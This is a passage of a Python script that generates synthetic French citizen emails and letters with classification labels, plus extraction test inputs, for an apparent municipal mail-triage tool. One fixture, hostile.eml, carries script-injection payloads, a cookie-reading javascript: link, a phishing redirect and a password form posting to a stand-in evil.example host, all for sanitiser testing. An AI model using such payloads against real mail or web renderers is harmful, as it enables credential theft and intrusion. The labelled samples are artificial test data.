    alt_part = entity([("Content-Type", 'multipart/alternative; boundary="Apple-Mail=_5C1E9F2B-2A44-4B0D-9E51-7A3E8D2C6F10"')], alt)
    out.append(("sample-07.eml", entity(
        headers(address("Monique Jacquot", "monique.jacquot@laposte.net"), "Demande d'aide rénovation",
                "Wed, 12 Mar 2025 09:47:31 +0100", "6E0B2D6A-91C4-4F0E-8A57-2C1B3D9E4F55@laposte.net",
                extra=[("X-Mailer", "iPhone Mail (21D61)")])
        + [("Content-Type", 'multipart/mixed; boundary="Apple-Mail=_0D7C4A11-6B38-4E2F-B7A9-3F5E2C1D8A90"')],
        multipart("Apple-Mail=_0D7C4A11-6B38-4E2F-B7A9-3F5E2C1D8A90", [alt_part, pdf_part(attachment, "scan_20250312.pdf")], None)),
        {"competence": "habitat", "commune": "25527", "urgent": False, "shape": "attached_letter"}))

    # 08 plain, utf-8 8bit, sender outside the territory (Roulans shares 25640 with member communes) => HORS
    text = """Bonjour,

Nous venons d'emménager au 6 rue de l'Église à Roulans (25640). Le précédent propriétaire a emporté les poubelles et nous n'avons plus aucun bac.

Pourriez-vous nous livrer un bac pour les ordures ménagères et un bac jaune pour le tri, et nous indiquer les jours de collecte ainsi que l'adresse de la déchèterie la plus proche ?

Merci d'avance,

Thomas et Léa Marguet
6 rue de l'Église
25640 Roulans
"""
    out.append(("sample-08.eml", entity(
        headers(address("Thomas Marguet", "thomas.marguet@gmail.com"), "Demande de bacs - nouveaux arrivants",
                "Sat, 05 Jul 2025 11:30:12 +0200", "d4b1c2a3-5e6f-4a7b-8c9d-0e1f2a3b4c5d@gmail.com",
                extra=[("User-Agent", "Mozilla Thunderbird")])
        + [("Content-Type", 'text/plain; charset=UTF-8; format=flowed'), ("Content-Transfer-Encoding", "8bit")],
        text.encode("utf-8")), {"competence": "dechets", "commune": "HORS", "urgent": False, "shape": "plain"}))

    # 09 HTML only, quoted-printable, company wanting a plot in the "zone d'activités de Valentin"
    html = html_page([
        "Madame, Monsieur,",
        "La société <b>Microméca Précision</b>, spécialisée dans l'usinage de pièces pour l'horlogerie et le "
        "médical, emploie aujourd'hui 34 salariés dans des locaux devenus trop petits. Nous envisageons de "
        "construire un nouveau bâtiment d'environ 2 500 m² et souhaiterions nous implanter dans la "
        "<b>zone d'activités de Valentin</b>.",
        "Pourriez-vous nous indiquer les terrains encore disponibles dans cette zone (surface souhaitée : "
        "6 000 à 8 000 m²), leur prix, ainsi que les aides à l'implantation et à l'investissement "
        "auxquelles notre projet pourrait prétendre&nbsp;?",
        "Nous serions heureux de vous rencontrer pour vous présenter le projet.",
        "Bien cordialement,",
        "<table style=\"border-top:1px solid #1f4e79;font-size:9pt;color:#1f4e79\"><tr><td>"
        "<b>Vincent Roussel</b><br>Directeur général<br>Microméca Précision SAS<br>"
        "Tél. 03 81 47 22 90</td></tr></table>",
    ])
    out.append(("sample-09.eml", entity(
        headers(address("Vincent Roussel", "v.roussel@micromeca-precision.fr"),
                "Projet d'implantation - zone d'activités de Valentin", "Thu, 20 Feb 2025 14:05:41 +0000",
                "PR3P281MB1234ABCD5678EF90A1B2C3D4E5F6@PR3P281MB1234.FRAP281.PROD.OUTLOOK.COM",
                extra=[("Thread-Topic", enc("Projet d'implantation - zone d'activités de Valentin")),
                       ("Content-Language", "fr-FR")])
        + [("Content-Type", 'text/html; charset="utf-8"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(html)), {"competence": "economie", "commune": "25212", "urgent": False, "shape": "html_only"}))

    # 10 ISO-8859-1 quoted-printable: a company's question on a public tender (no euro sign in latin-1)
    text = """Madame, Monsieur,

Notre société souhaite répondre à votre consultation n° 2025-017 relative à la fourniture de mobilier de bureau (marché à procédure adaptée publié le 3 juin).

Nous avons deux questions sur le dossier de consultation :
- le bordereau des prix unitaires mentionne 180 sièges ergonomiques, alors que le CCTP en prévoit 150 : quelle quantité faut-il chiffrer ?
- une visite des locaux est-elle obligatoire avant la remise des offres, fixée au 4 juillet à 12 h ?

Nous vous remercions de votre réponse et vous prions d'agréer nos salutations distinguées.

François Lhomme
Responsable commercial
Bureautique Lhomme & Fils
5 rue des Artisans
25480 Miserey-Salines
Tél. 03 81 58 09 66
"""
    out.append(("sample-10.eml", entity(
        headers(address("François Lhomme", "f.lhomme@bureautique-lhomme.fr", "iso-8859-1"),
                "Consultation 2025-017 - mobilier de bureau - questions", "Tue, 17 Jun 2025 16:48:03 +0200",
                "000001dbdf93$4a1c2e60$de548b20$@bureautique-lhomme.fr", charset="iso-8859-1",
                extra=[("X-Mailer", "Microsoft Outlook 16.0")])
        + [("Content-Type", 'text/plain; charset="iso-8859-1"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(text, "iso-8859-1")), {"competence": "finances_achats", "commune": "25381", "urgent": False,
                                  "shape": "latin1"}))

    # 11 multipart/alternative from an association (hiking trail in Montfaucon)
    plain = """Madame, Monsieur,

L'association Les Sentiers de Montfaucon entretient depuis quinze ans la boucle de randonnée qui relie le village aux ruines du château de Montfaucon et au belvédère sur la vallée du Doubs.

Le balisage a beaucoup souffert des dernières coupes forestières et plusieurs panneaux ont disparu. Nous souhaiterions savoir si la métropole peut prendre en charge le renouvellement de la signalétique, et si cette boucle pourrait figurer dans les itinéraires de randonnée mis en avant par l'office de tourisme.

Nos bénévoles sont prêts à participer aux travaux de balisage.

Avec nos remerciements,

Gilles Vernerey
Président des Sentiers de Montfaucon
"""
    html = html_page([p.replace("\n", "<br>") for p in plain.strip().split("\n\n")],
                     "font-family: Verdana, sans-serif; font-size: 10pt; color: #222;")
    out.append(("sample-11.eml", entity(
        headers(address("Les Sentiers de Montfaucon", "sentiers.montfaucon@gmail.com"),
                "Balisage de la boucle du château de Montfaucon", "Fri, 16 May 2025 18:22:57 +0200",
                "CAB9kPq1Tz_8vW3xYn4uR6sE2mJ0=hLd@mail.gmail.com")
        + [("Content-Type", 'multipart/alternative; boundary="00000000000077f3e1062b9c4d1e"')],
        multipart("00000000000077f3e1062b9c4d1e", [text_part(plain), text_part(html, "html")], None)),
        {"competence": "culture_sport_tourisme", "commune": "25395", "urgent": False, "shape": "alternative"}))

    # 12 plain, no place at all => null
    text = """Madame, Monsieur,

Étudiante en deuxième année de BUT Information-Communication, je recherche un stage de dix semaines à partir du 14 avril 2025.

Le travail d'une direction de la communication dans une grande collectivité m'intéresse particulièrement : relations presse, réseaux sociaux, préparation des supports d'information pour les habitants. Je maîtrise les logiciels de PAO et j'ai déjà réalisé un stage dans une agence de communication l'été dernier.

Je me permets donc de vous adresser cette candidature spontanée et peux vous transmettre mon CV et ma lettre de motivation sur simple demande.

Je vous remercie de l'attention portée à ma demande.

Camille Roussel
07 68 21 39 54
"""
    out.append(("sample-12.eml", entity(
        headers(address("Camille Roussel", "camille.roussel.pro@gmail.com"), "Candidature spontanée - stage en communication",
                "Sun, 26 Jan 2025 20:09:33 +0100", "CAHf3k2Wq8nV9Lp0xR5tY7uB1cD@mail.gmail.com")
        + [("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(text)), {"competence": "ressources_humaines", "commune": None, "urgent": False, "shape": "plain"}))
    return out


def sample_letters() -> list[tuple[str, bytes, dict]]:
    out = []

    # 13 scan 300 dpi, urgent: a collapsed pavement in Battant
    letter = Letter(
        sender=["Gérard Faivre", "42 rue Battant", "25000 Besançon", "Tél. 03 81 52 47 19"],
        recipient=list(GBM_CEDEX),
        place_date="Besançon, le 14 mars 2025",
        objet="Affaissement du trottoir devant le 40 rue Battant – danger pour les piétons",
        body=[
            "Je me permets de vous signaler un affaissement important du trottoir devant le n° 40 de la rue "
            "Battant, à une vingtaine de mètres du pont Battant. Depuis les fortes pluies de la semaine "
            "dernière, le revêtement s'est enfoncé sur près d'un mètre de long et un trou d'une cinquantaine "
            "de centimètres de profondeur s'est formé le long de la façade.",
            "Les barrières qui avaient été posées ont été renversées dès le premier soir et ne protègent plus "
            "rien. Hier, une voisine âgée a failli y tomber en sortant de chez elle, et de nombreux enfants "
            "passent par ce trottoir tous les jours.",
            "Je vous demande donc de faire sécuriser ce passage en urgence, puis de faire réparer le trottoir "
            "dans les meilleurs délais. Je reste à la disposition de vos services pour leur montrer l'endroit "
            "exact.",
        ],
        signature=["Gérard Faivre"],
    )
    out.append(("sample-13.pdf", scanned_pdf(letter, "serif", 300, SEED + 13, 45, "Scan 14-03-2025",
                                             "20250314163011+01'00'", 11.5),
                {"competence": "voirie", "commune": "25056", "urgent": True, "shape": "scan_pdf"}))

    # 14 scan 200 dpi, two pages: the mayor of Chemaudin et Vaux asks the president for a meeting
    letter = Letter(
        letterhead=["MAIRIE DE CHEMAUDIN ET VAUX", "2 place de la Mairie – 25320 Chemaudin et Vaux",
                    "Tél. 03 81 58 61 20 – secretariat@mairie-chemaudin-vaux.fr"],
        sender=["Nos réf. : JLC/BP/2025-041", "Affaire suivie par : Brigitte Pourcelot"],
        recipient=["Monsieur le Président", "Grand Besançon Métropole", "4 rue Gabriel Plançon", "25043 Besançon Cedex"],
        place_date="Chemaudin et Vaux, le 3 février 2025",
        objet="Demande de rendez-vous – dossiers de la commune",
        salutation="Monsieur le Président,",
        body=[
            "Le conseil municipal de Chemaudin et Vaux m'a chargé, lors de sa séance du 27 janvier dernier, "
            "de vous solliciter pour un rendez-vous afin de faire le point sur plusieurs dossiers qui "
            "concernent directement nos habitants, en particulier ceux du village de Vaux-les-Prés.",
            "Je souhaiterais notamment aborder avec vous les points suivants :",
            "– la desserte en transports en commun de Vaux-les-Prés, dont les habitants regrettent la faible "
            "fréquence des bus en dehors des heures de pointe ;",
            "– le calendrier des travaux d'aménagement de la traversée du village, reportés à deux reprises ;",
            "– l'avenir de la zone d'activités et les projets d'implantation dont nous avons eu écho ;",
            "\f",
            "– enfin, la place de notre commune dans la révision du plan local d'urbanisme intercommunal, à "
            "laquelle le conseil municipal souhaite être étroitement associé.",
            "Ces sujets ont été évoqués à plusieurs reprises avec vos services, que je remercie pour leur "
            "disponibilité, mais il me semble aujourd'hui nécessaire d'en parler directement avec vous, en "
            "présence de mes adjoints.",
            "Je me tiens à votre disposition, ainsi que mon secrétariat, pour convenir d'une date qui vous "
            "conviendrait au cours des mois de février ou de mars.",
        ],
        closing="Je vous prie d'agréer, Monsieur le Président, l'expression de ma haute considération.",
        signature=["Le Maire,", "Jean-Luc Cuinet"],
    )
    out.append(("sample-14.pdf", scanned_pdf(letter, "serif", 200, SEED + 14, 55, "Scan mairie",
                                             "20250204110245+01'00'", 11.5),
                {"competence": "cabinet", "commune": "25147", "urgent": False, "shape": "scan_pdf"}))

    # 15 scan 200 dpi, typewriter-like font: street lights in Deluz (a town-hall matter)
    letter = Letter(
        sender=["Mme et M. Roland Chopard", "5 rue des Vignes", "25960 Deluz"],
        place_date="Deluz, le 20 novembre 2024",
        objet="Lampadaires éteints rue des Vignes",
        body=[
            "Nous vous écrivons car trois lampadaires de la rue des Vignes, entre le n° 1 et le n° 11, sont "
            "éteints depuis plus de trois semaines. Le soir, dès 17 heures, la rue est plongée dans le noir, "
            "ce qui est peu rassurant pour les piétons qui remontent de la gare.",
            "Nous ne savons pas si l'éclairage public dépend de la métropole ou de la mairie : nous vous "
            "remercions de bien vouloir transmettre notre demande au service concerné afin que ces "
            "lampadaires soient réparés.",
        ],
        closing="Veuillez agréer, Madame, Monsieur, nos salutations distinguées.",
        signature=["R. et M. Chopard"],
    )
    out.append(("sample-15.pdf", scanned_pdf(letter, "mono", 200, SEED + 15, 55, "Numérisation",
                                             "20241121083412+01'00'", 11.0),
                {"competence": "commune", "commune": "25197", "urgent": False, "shape": "scan_pdf"}))

    # 16 scan 200 dpi: APA is the Département's (hors compétence); sender writes the old village name
    letter = Letter(
        sender=["Colette Grosjean", "7 rue de la Fontaine", "25620 Le Gratteris"],
        place_date="Le Gratteris, le 6 mai 2025",
        objet="Demande d'allocation personnalisée d'autonomie pour ma mère",
        body=[
            "Ma mère, Madame Suzanne Grosjean, âgée de 91 ans, vit chez moi depuis l'automne dernier. Son "
            "état de santé s'est dégradé et elle a désormais besoin d'une aide quotidienne pour sa toilette, "
            "ses repas et ses déplacements.",
            "Son médecin traitant m'a conseillé de demander l'allocation personnalisée d'autonomie (APA) afin "
            "de financer le passage d'une aide à domicile. Pourriez-vous m'envoyer le dossier de demande et "
            "m'indiquer les pièces à fournir ?",
            "Je vous remercie par avance de votre aide et reste joignable au 06 72 18 44 09.",
        ],
        signature=["Colette Grosjean"],
    )
    out.append(("sample-16.pdf", scanned_pdf(letter, "dejavu", 200, SEED + 16, 55, "Scan",
                                             "20250507142230+02'00'", 11.0),
                {"competence": "hors_competence", "commune": "25364", "urgent": False, "shape": "scan_pdf"}))

    # 17 phone photo JPG: fly-tipping in Chalèze (not Chalezeule)
    letter = Letter(
        sender=["Pierre-Yves Monnier", "3 rue du Lavoir", "25220 Chalèze"],
        place_date="Chalèze, le 2 juin 2025",
        objet="Dépôt sauvage d'encombrants au bord du Doubs",
        body=[
            "Depuis le week-end dernier, un important dépôt sauvage a été abandonné sur le petit parking au "
            "bout du chemin du Port, au bord du Doubs : un canapé, deux matelas, des pots de peinture et une "
            "dizaine de sacs de gravats.",
            "Des promeneurs commencent à y ajouter leurs propres sacs poubelles et le tas grossit chaque jour. "
            "Pourriez-vous faire enlever ces déchets ? Je peux vous envoyer des photos si cela peut aider vos "
            "équipes.",
        ],
        signature=["P.-Y. Monnier"],
    )
    out.append(("sample-17.jpg", jpeg_bytes(photo(letter, "sans", SEED + 17, True, "tl"), 80, 150),
                {"competence": "dechets", "commune": "25111", "urgent": False, "shape": "photo_jpg"}))

    # 18 phone photo JPG: water bill dispute, Palente (Besançon)
    letter = Letter(
        sender=["Nadia Haddad", "12 rue des Roses", "25000 Besançon"],
        refs=["N° d'abonné : 0045 8812 07", "Compteur n° 17-AB-226431"],
        place_date="Besançon, le 9 septembre 2025",
        objet="Contestation de ma facture d'eau du premier semestre 2025",
        body=[
            "J'ai reçu ma facture d'eau et d'assainissement pour le premier semestre 2025, d'un montant de "
            "684,20 €, alors que mes factures précédentes ne dépassaient jamais 190 € pour la même période. "
            "Nous sommes deux personnes dans un appartement de Palente et notre consommation n'a pas changé.",
            "Aucune fuite n'est visible dans le logement et le plombier que j'ai fait venir n'a rien constaté. "
            "Je vous demande donc de bien vouloir faire vérifier le relevé et le fonctionnement du compteur, "
            "puis de corriger la facture.",
            "Dans l'attente, je souhaiterais pouvoir régler la partie non contestée en plusieurs fois.",
        ],
        signature=["Nadia Haddad"],
        pj="P.J. : copie de la facture, relevés des deux dernières années",
    )
    out.append(("sample-18.jpg", jpeg_bytes(photo(letter, "serif", SEED + 18, True, "tr", 12.0), 80, 150),
                {"competence": "eau_assainissement", "commune": "25056", "urgent": False, "shape": "photo_jpg"}))

    # 19 phone photo JPG: PMR transport, Boussières ("Grande Rue" is also a Besançon street)
    letter = Letter(
        sender=["Lucien Tissot", "18 Grande Rue", "25320 Boussières"],
        place_date="Boussières, le 15 octobre 2025",
        objet="Inscription au service de transport des personnes à mobilité réduite",
        body=[
            "À la suite d'un accident vasculaire, je me déplace désormais en fauteuil roulant et je ne peux "
            "plus conduire. Je dois pourtant me rendre trois fois par semaine à mes séances de rééducation, "
            "ainsi qu'à différents rendez-vous médicaux.",
            "Je souhaiterais bénéficier du service de transport à la demande réservé aux personnes à mobilité "
            "réduite sur le réseau Ginko. Pourriez-vous m'adresser le formulaire d'inscription et m'indiquer "
            "les justificatifs nécessaires ainsi que les tarifs ?",
        ],
        signature=["Lucien Tissot"],
    )
    out.append(("sample-19.jpg", jpeg_bytes(photo(letter, "dejavu", SEED + 19, True, "bottom"), 80, 150),
                {"competence": "mobilites", "commune": "25084", "urgent": False, "shape": "photo_jpg"}))

    # 20 PNG photo (grey): invasive plants on the Doubs banks at Aveney (alias of Avanne-Aveney)
    letter = Letter(
        sender=["Association Aveney Nature", "Hélène Belin, présidente", "9 chemin du Halage", "25720 Aveney"],
        place_date="Aveney, le 24 juin 2025",
        objet="Prolifération de la renouée du Japon sur les berges du Doubs",
        body=[
            "Notre association, qui organise chaque année des chantiers de nettoyage des bords du Doubs, "
            "constate une progression très rapide de la renouée du Japon le long de la véloroute, entre "
            "l'écluse et l'entrée du village. Sur certains tronçons, cette plante invasive recouvre désormais "
            "toute la berge et étouffe la végétation locale.",
            "Nos bénévoles ne peuvent pas lutter seuls contre cette espèce. Nous souhaiterions savoir si la "
            "métropole prévoit un plan de lutte contre les espèces invasives sur ce secteur et si notre "
            "association pourrait y être associée.",
        ],
        closing="Veuillez agréer, Madame, Monsieur, nos salutations respectueuses.",
        signature=["Pour l'association,", "Hélène Belin"],
    )
    out.append(("sample-20.png", png_bytes(photo(letter, "sans", SEED + 20, False, "tr"), 150),
                {"competence": "environnement", "commune": "25036", "urgent": False, "shape": "png"}))

    # 21 PNG photo: a lawyer's formal notice (8 days) about a sewer backflow in Thoraise
    letter = Letter(
        letterhead=["Cabinet Vernier Avocats", "8 rue de la Préfecture – 25000 Besançon",
                    "Tél. 03 81 65 20 48 – contact@vernier-avocats.fr"],
        sender=[],
        mention="LETTRE RECOMMANDÉE AVEC ACCUSÉ DE RÉCEPTION",
        recipient=["Grand Besançon Métropole", "Service des affaires juridiques", "4 rue Gabriel Plançon",
                   "25043 Besançon Cedex"],
        place_date="Besançon, le 4 juillet 2025",
        refs=["N/Réf. : 2025-0318 – Vuillemin c/ GBM"],
        objet="Mise en demeure – dommages causés par le refoulement du réseau d'assainissement",
        body=[
            "J'interviens en qualité de conseil de Monsieur et Madame Daniel Vuillemin, demeurant 14 rue du "
            "Pont à Thoraise (25320).",
            "Dans la nuit du 12 au 13 juin 2025, à la suite d'un violent orage, le réseau public "
            "d'assainissement a refoulé dans le sous-sol de leur maison. L'eau a atteint près de quarante "
            "centimètres, endommageant la chaudière et de nombreux biens. L'expert mandaté par leur assureur "
            "évalue le préjudice à 11 480 €.",
            "Mes clients vous ont adressé une première réclamation le 20 juin, restée sans réponse. Je vous "
            "mets donc en demeure de leur faire connaître, dans un délai de huit jours à compter de la "
            "réception de la présente, votre position sur l'indemnisation de ce sinistre. À défaut, j'ai reçu "
            "mandat de saisir le tribunal administratif.",
        ],
        closing="Je vous prie de croire, Madame, Monsieur, à l'assurance de mes sentiments distingués.",
        signature=["Claire Vernier", "Avocate au barreau de Besançon"],
    )
    out.append(("sample-21.png", png_bytes(photo(letter, "serif", SEED + 21, False, "tl", 11.0), 150),
                {"competence": "juridique_assurances", "commune": "25561", "urgent": True, "shape": "png"}))

    # 22 PNG photo: school canteen in Pirey (a town-hall matter)
    letter = Letter(
        sender=["Émilie Perrin", "21 rue des Jardins", "25480 Pirey"],
        place_date="Pirey, le 18 août 2025",
        objet="Inscription de ma fille à la cantine et au périscolaire",
        body=[
            "Nous venons d'emménager à Pirey et notre fille Léna, âgée de 7 ans, fera sa rentrée en CE1 à "
            "l'école du village le 1er septembre.",
            "Je souhaiterais l'inscrire à la cantine le midi ainsi qu'à l'accueil périscolaire du soir, quatre "
            "jours par semaine. Pouvez-vous m'indiquer la démarche à suivre, les tarifs et les documents à "
            "fournir ?",
        ],
        closing="Avec mes remerciements, veuillez agréer, Madame, Monsieur, mes salutations distinguées.",
        signature=["Émilie Perrin"],
    )
    out.append(("sample-22.png", png_bytes(photo(letter, "dejavu", SEED + 22, False, "bottom"), 150),
                {"competence": "commune", "commune": "25454", "urgent": False, "shape": "png"}))

    # 23 born-digital PDF: a supplier's payment reminder (Serre-les-Sapins)
    letter = Letter(
        letterhead=["ÉQUIPRO COMTOIS", "Vêtements et équipements de protection professionnels",
                    "12 rue de l'Industrie – 25770 Serre-les-Sapins – Tél. 03 81 59 14 72"],
        sender=[],
        recipient=["Grand Besançon Métropole", "Direction des finances – comptabilité", "4 rue Gabriel Plançon",
                   "25043 Besançon Cedex"],
        place_date="Serre-les-Sapins, le 23 avril 2025",
        refs=["Facture n° FA-2025-0098 du 24 janvier 2025", "Bon de commande n° 2024-BC-03871",
              "Montant : 3 912,00 € TTC – échéance : 25 février 2025"],
        objet="Relance – facture impayée",
        body=[
            "Sauf erreur de notre part, la facture référencée ci-dessus, correspondant à la livraison le 22 "
            "janvier 2025 de 60 parkas et 120 paires de gants de protection pour vos agents, reste impayée à "
            "ce jour, alors que son échéance était fixée au 25 février 2025.",
            "Nous vous remercions de bien vouloir procéder à son règlement dans les meilleurs délais par "
            "virement sur le compte indiqué sur la facture, ou de nous faire savoir si un élément fait "
            "obstacle au paiement (service fait non constaté, pièce manquante).",
            "Nous vous rappelons que le délai global de paiement des collectivités est de trente jours et que "
            "tout retard ouvre droit à des intérêts moratoires.",
        ],
        closing="Nous vous prions d'agréer, Madame, Monsieur, nos salutations distinguées.",
        signature=["Sandrine Cuenot", "Service comptabilité"],
        footer=["SARL Équipro Comtois au capital de 40 000 € – RCS Besançon 812 345 678 – "
                "TVA intracommunautaire FR12 812345678"],
    )
    out.append(("sample-23.pdf", text_pdf(layout(letter, "sans", 10.5), "sans", "Relance facture FA-2025-0098",
                                          "20250423091845+02'00'"),
                {"competence": "finances_achats", "commune": "25542", "urgent": False, "shape": "text_pdf"}))

    # 24 born-digital PDF: an association invites the president (Tallenay)
    letter = Letter(
        letterhead=["Foyer rural de Tallenay", "Association loi 1901 – 1 rue de la Mairie – 25870 Tallenay",
                    "foyerrural.tallenay@gmail.com"],
        sender=[],
        recipient=["Monsieur le Président", "Grand Besançon Métropole", "4 rue Gabriel Plançon", "25043 Besançon Cedex"],
        place_date="Tallenay, le 12 mai 2025",
        objet="Invitation – 50 ans du Foyer rural de Tallenay",
        salutation="Monsieur le Président,",
        body=[
            "Le Foyer rural de Tallenay fête cette année ses cinquante ans d'existence. À cette occasion, nous "
            "organisons une journée anniversaire le samedi 21 juin 2025 à la salle des fêtes, avec une "
            "exposition retraçant l'histoire de l'association, un concert et un repas partagé.",
            "Nous serions très honorés de votre présence lors de la partie officielle, prévue à 11 heures, en "
            "compagnie de Madame la Maire et des élus du secteur. Ce serait l'occasion de rencontrer les "
            "bénévoles qui font vivre notre village depuis un demi-siècle.",
            "Nous vous remercions de bien vouloir nous faire savoir si vous pourrez vous joindre à nous, ou "
            "vous faire représenter par un vice-président.",
        ],
        closing="Veuillez agréer, Monsieur le Président, l'expression de nos sentiments les plus respectueux.",
        signature=["Le président du Foyer rural,", "Michel Bourdenet"],
    )
    out.append(("sample-24.pdf", text_pdf(layout(letter, "serif", 11.5), "serif", "Invitation 50 ans",
                                          "20250512175003+02'00'"),
                {"competence": "cabinet", "commune": "25557", "urgent": False, "shape": "text_pdf"}))
    return out


def write_samples() -> None:
    SAMPLES.mkdir(parents=True, exist_ok=True)
    labels = []
    for name, data, label in sample_emails() + sample_letters():
        (SAMPLES / name).write_bytes(data)
        labels.append({"file": name, **label})
    with open(SAMPLES / "labels.jsonl", "w", encoding="utf-8") as handle:
        for row in labels:
            handle.write(json.dumps(row, ensure_ascii=False) + "\n")


# --------------------------------------------------------------------------------------------
# tests/data: tiny real inputs for the extraction tests
# --------------------------------------------------------------------------------------------

def thise_letter() -> Letter:
    return Letter(
        sender=["Jacqueline Pourchet", "9 rue des Prés", "25220 Thise"],
        place_date="Thise, le 7 avril 2025",
        objet="Bac gris non collecté",
        body=[
            "Notre bac gris n'a pas été vidé lors de la collecte du jeudi 3 avril, alors qu'il était sorti la "
            "veille au soir comme d'habitude. Pouvez-vous faire repasser le camion ou nous indiquer la date de "
            "la prochaine collecte ?",
        ],
        signature=["Jacqueline Pourchet"],
    )


def belfort_letter() -> Letter:
    return Letter(
        sender=["Lucas Moreau", "27 rue de Belfort", "25000 Besançon"],
        place_date="Besançon, le 19 mai 2025",
        objet="Fuite d'eau sur le trottoir rue de Belfort",
        body=[
            "Depuis ce matin, de l'eau s'écoule en continu d'une bouche à clé sur le trottoir devant le 27 rue "
            "de Belfort, à Besançon. Une flaque s'étend jusqu'à la chaussée et la pression semble avoir baissé "
            "dans l'immeuble.",
            "Pouvez-vous envoyer une équipe pour réparer cette fuite sur le réseau d'eau ?",
        ],
        signature=["Lucas Moreau"],
    )


def write_tests() -> None:
    TESTS.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(SEED + 100)

    # letter_scan.png: one clean page at 200 dpi, greys posterised so the PNG stays small
    page = render_pages(layout(thise_letter(), "sans", 12), "sans", 200, SEED + 101)[0]
    page = page.point(lambda v: min(255, (v // 32) * 36 + 3) if v < 250 else 255)
    (TESTS / "letter_scan.png").write_bytes(png_bytes(page, 200))

    # two_pages_scan.pdf: image-only, two pages with distinct text, 150 dpi grey JPEG
    letter = Letter(
        sender=["Hervé Jeannin", "11 rue de la Corvée", "25220 Chalezeule"],
        place_date="Chalezeule, le 28 avril 2025",
        objet="Demande d'un composteur individuel",
        body=[
            "J'habite à Chalezeule depuis peu et je souhaiterais obtenir un composteur individuel pour mon "
            "jardin. Pouvez-vous m'indiquer la marche à suivre ?",
            "\f",
            "Page deux : suite de mon courrier. Je suis également intéressé par une formation au compostage "
            "si la métropole en organise.",
        ],
        signature=["Hervé Jeannin"],
    )
    pages = []
    for image in render_pages(layout(letter, "sans", 12), "sans", 150, SEED + 102):
        scan = scan_effect(image, rng, angle=float(rng.uniform(-0.3, 0.3)), noise=2.0)
        pages.append((jpeg_bytes(scan, 50, 150), scan.width, scan.height, 150))
    (TESTS / "two_pages_scan.pdf").write_bytes(image_pdf(pages, "Scan", "20250428101010+02'00'"))

    # text_layer.pdf: born-digital, one page, real text layer
    text_layer = text_pdf(layout(belfort_letter(), "sans"), "sans", "Fuite d'eau rue de Belfort", "20250519083000+02'00'")
    (TESTS / "text_layer.pdf").write_bytes(text_layer)

    # email_with_pdf.eml: multipart/mixed, short text/plain body + text_layer.pdf
    body = "Bonjour,\n\nJe vous transmets en pièce jointe mon signalement d'une fuite d'eau.\n\nCordialement,\nLucas Moreau\n"
    (TESTS / "email_with_pdf.eml").write_bytes(entity(
        headers(address("Lucas Moreau", "lucas.moreau@orange.fr"), "Signalement fuite d'eau",
                "Mon, 19 May 2025 08:35:12 +0200", "test-email-with-pdf@orange.fr")
        + [("Content-Type", 'multipart/mixed; boundary="=_test_mixed_0001"')],
        multipart("=_test_mixed_0001", [text_part(body), pdf_part(text_layer, "signalement_fuite.pdf")])))

    # html_only.eml: HTML only, iso-8859-1, quoted-printable
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>'
            '<body><p>Bonjour,</p><p>Je souhaiterais obtenir un <b>composteur</b> pour mon jardin, quartier de '
            'Montrapon à Besançon. Où dois-je m\'adresser&nbsp;? Merci beaucoup.</p>'
            '<p>Hélène Garçon<br>8 rue de Vesoul<br>25000 Besançon</p></body></html>\n')
    (TESTS / "html_only.eml").write_bytes(entity(
        headers(address("Hélène Garçon", "helene.garcon@wanadoo.fr", "iso-8859-1"), "Demande de composteur",
                "Fri, 04 Apr 2025 17:02:44 +0200", "test-html-only-latin1@wanadoo.fr", charset="iso-8859-1")
        + [("Content-Type", 'text/html; charset="iso-8859-1"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(html, "iso-8859-1")))

    # hostile.eml: active content a renderer must never run (for sanitising tests)
    html = """<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/phish">
<style>body { background: url("http://evil.example/track.gif"); }</style>
<script>alert(1)</script>
</head>
<body onload="alert('onload')">
<p>Bonjour,</p>
<p>Un dépôt sauvage de gravats bloque le trottoir rue de Vesoul à Besançon depuis trois jours.</p>
<img src="http://evil.example/x.png" width="1" height="1" alt="">
<img src="x" onerror="alert('onerror')">
<p><a href="#" onclick="alert('clic');return false;">Voir la photo</a> ou
<a href="javascript:alert(document.cookie)">cliquez ici pour confirmer</a>.</p>
<iframe src="http://evil.example/frame.html"></iframe>
<form action="http://evil.example/steal" method="post"><input name="password" type="password"></form>
<p>Cordialement,<br>Un riverain</p>
</body></html>
"""
    (TESTS / "hostile.eml").write_bytes(entity(
        headers(address("Riverain", "riverain@evil.example"), "Dépôt sauvage rue de Vesoul",
                "Thu, 06 Mar 2025 12:00:00 +0100", "test-hostile@evil.example")
        + [("Content-Type", 'text/html; charset="utf-8"'), ("Content-Transfer-Encoding", "quoted-printable")],
        qp(html)))

    # corrupt.pdf: a PDF header, the start of an object, then truncated garbage (pdfinfo fails)
    garbage = bytes(rng.integers(0, 256, 1500, dtype=np.uint8))
    (TESTS / "corrupt.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Cat" + garbage)

    # empty.pdf: zero bytes
    (TESTS / "empty.pdf").write_bytes(b"")

    # blank_page.png: white A4 page at 150 dpi
    (TESTS / "blank_page.png").write_bytes(png_bytes(Image.new("L", (1240, 1754), 255), 150))

    # not_a_document.pdf: actually a small ZIP archive
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("lisezmoi.txt", date_time=(2025, 3, 1, 12, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, "Ceci n'est pas un PDF, c'est une archive ZIP.\n" * 20)
    (TESTS / "not_a_document.pdf").write_bytes(buffer.getvalue())

    # broken_mime.eml: no From/To/Date/Message-ID/MIME-Version, a non-header line in the headers, a
    # boundary that never closes, "utf-8" declared over latin-1 bytes, a truncated base64 attachment
    text = ("Bonjour,\n\nJe n'ai toujours pas reçu ma facture d'eau du mois de février pour mon logement à Pirey. "
            "Pourriez-vous me la renvoyer ? Merci d'avance.\n\nRené Thiébaud\n")
    attachment = base64.encodebytes(text_layer)[:300]  # cut in the middle of a line
    broken = (b"Subject: facture d'eau\n"
